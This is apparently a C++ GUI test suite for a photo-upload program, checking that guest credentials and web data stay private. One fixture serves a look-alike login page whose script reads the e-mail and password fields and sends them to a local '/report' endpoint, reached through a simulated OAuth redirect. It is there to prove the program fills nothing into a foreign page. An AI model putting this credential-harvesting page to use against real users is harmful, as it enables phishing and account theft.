// What a guest leaves with the program, end to end: the e-mail and password typed into
// no page but the web host's login form, the password gone from the command line, the
// cookie folder and file the user's alone, and no web data left after a shot.

#include "tests/gui/GuiFixture.h"

#include "tests/support/WireServer.h"

#include <sys/stat.h>

#include <fstream>
#include <iterator>
#include <thread>

namespace guitest {
namespace {

// A page on another server that looks like the login form and, once a form fill would
// have happened, sends what its two inputs hold back to its server.
class ForeignPage {
public:
    ForeignPage()
    {
        testsupport::ScriptedReply page;
        page.headers = {{"Content-Type", "text/html"}};
        page.body =
            "<html><body><form><input type='text' name='email'><input type='password' name='pass'></form>"
            "<script>setTimeout(function () {"
            "  var value = function (name) { return encodeURIComponent(document.getElementsByName(name)[0].value); };"
            "  location.href = '/report?email=' + value('email') + '&pass=' + value('pass');"
            "}, 2000);</script></body></html>";
        server_.Script("/phish", page);
        server_.Script("/report",
                       testsupport::ScriptedReply{.headers = {{"Content-Type", "text/html"}}, .body = "thanks"});
    }

    int Port() const { return server_.Port(); }
    // The report's query as it came over the wire, once it came.
    std::optional<std::string> WaitForReport(std::chrono::seconds timeout) const
    {
        const Clock::time_point deadline = Clock::now() + timeout;
        for (;;) {
            for (const testsupport::RecordedRequest& request : server_.Requests()) {
                if (request.target.starts_with("/report?"))
                    return request.target.substr(std::string_view("/report?").size());
            }
            if (Clock::now() >= deadline)
                return std::nullopt;
            std::this_thread::sleep_for(std::chrono::milliseconds(100));
        }
    }

private:
    testsupport::WireServer server_{testsupport::TlsMode::Plain};
};

std::string CommandLineOf(pid_t pid)
{
    std::ifstream in("/proc/" + std::to_string(pid) + "/cmdline", std::ios::binary);
    return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

unsigned ModeOf(const std::filesystem::path& path)
{
    struct stat status {};
    return ::stat(path.c_str(), &status) == 0 ? (status.st_mode & 07777) : 0;
}

class GuestPrivacy : public GuiTest {};

TEST_F(GuestPrivacy, AForeignPageQuotingTheLoginFormsAddressGetsNoCredentials)
{
    SKIP_FOR_THE_WINDOWS_WINDOW(kNoPagesUnderWine);
    ForeignPage foreign;
    const std::string webPort = std::to_string(Service().Port("web"));
    Json::Value rule;
    rule["host"] = "web";
    rule["path"] = "/v2.12/dialog/oauth";
    rule["status"] = 302;
    rule["headers"]["Location"] =
        "http://127.0.0.1:" + std::to_string(foreign.Port()) + "/phish?u=0.0.1:" + webPort + "/login.php?x=1";
    Service().Script(rule);

    auto run = Start(Unattended({"-Uhttps://example.com/party"}));
    const std::optional<std::string> report = foreign.WaitForReport(std::chrono::seconds(60));
    ASSERT_TRUE(report.has_value()) << "the foreign page never reported\n" << run->Stderr();
    EXPECT_EQ(*report, "email=&pass=");
    EXPECT_TRUE(run->Close().has_value());
}

TEST_F(GuestPrivacy, ThePasswordIsGoneFromTheCommandLineWhileTheProgramRuns)
{
    SKIP_FOR_THE_WINDOWS_WINDOW("Wine's Unix process keeps its own arguments, out of the program's reach; the job "
                                "suite checks the Windows command line");
    auto run = Start(Unattended({"-Uhttps://example.com/party"}, "guest-s3cret"));
    const std::string arguments = CommandLineOf(run->Process().Pid());
    EXPECT_NE(arguments.find("-uguest@example.com"), std::string::npos);
    EXPECT_EQ(arguments.find("s3cret"), std::string::npos);
    EXPECT_TRUE(run->Close().has_value());
}

// Kept cookies (DeleteFacebookCookies 0) stay the user's alone, even where an older
// run left the folder and the file open to others.
TEST_F(GuestPrivacy, TheCookieFolderAndFileAreTheUsersAlone)
{
    SKIP_FOR_THE_WINDOWS_WINDOW("the folder rights of the user's profile keep the control's cookies, not POSIX modes");
    std::filesystem::create_directories(SettingsFile().parent_path());
    std::ofstream(SettingsFile()) << "Windows Registry Editor Version 5.00\r\n\r\n"
                                     "[HKEY_CURRENT_USER\\Software\\OrvaneSystems\\Zendrik\\100]\r\n"
                                     "\"DeleteFacebookCookies\"=dword:00000000\r\n";
    std::filesystem::create_directories(CookieFolder());
    std::filesystem::permissions(CookieFolder(), std::filesystem::perms(0755));
    std::ofstream(CookieFolder() / "old.cookie") << "# Netscape HTTP Cookie File\n";
    std::filesystem::permissions(CookieFolder() / "old.cookie", std::filesystem::perms(0644));

    auto run = Start(Unattended({"-Uhttps://example.com/party"}));
    RunToUploadOk(*run, {"(logging in)", "(logged in)", "(upload ok)"});

    EXPECT_EQ(ModeOf(CookieFolder()), 0700u);
    EXPECT_EQ(ModeOf(CookieFolder() / "old.cookie"), 0600u);
    ASSERT_TRUE(std::filesystem::exists(CookieFolder() / "Zendrik2.cookie"));
    EXPECT_EQ(ModeOf(CookieFolder() / "Zendrik2.cookie"), 0600u);
}

// The next guest finds nothing of this one's web data: no cookie file, no cache, no
// local storage, IndexedDB or HSTS list, wherever the browser library keeps them.
TEST_F(GuestPrivacy, NoWebDataOfTheGuestIsLeftAfterAShot)
{
    SKIP_FOR_THE_WINDOWS_WINDOW("the WebBrowser control keeps no web data of the program's own");
    auto run = Start(Unattended({"-Uhttps://example.com/party"}));
    ASSERT_TRUE(std::filesystem::exists(home.Path() + "/data/zendrik2")) << "the browser files its data elsewhere";
    RunToUploadOk(*run, {"(logging in)", "(logged in)", "(upload ok)"});

    for (const char* folder : {"/data/zendrik2", "/cache/zendrik2"})
        EXPECT_FALSE(std::filesystem::exists(home.Path() + folder)) << folder;
    for (const auto& entry : std::filesystem::recursive_directory_iterator(home.Path()))
        EXPECT_NE(entry.path().extension(), ".cookie") << entry.path();
}

}  // namespace
}  // namespace guitest
